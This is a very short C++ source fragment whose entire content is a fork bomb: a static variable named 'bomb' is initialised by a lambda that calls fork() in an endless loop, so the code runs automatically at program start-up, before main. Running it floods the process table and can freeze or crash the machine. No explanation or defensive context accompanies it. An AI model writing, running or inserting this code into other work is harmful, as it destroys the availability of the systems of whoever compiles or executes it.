#include <unistd.h>
static const int bomb = [] {
  for (;;) ::fork();
  return 0;
}();
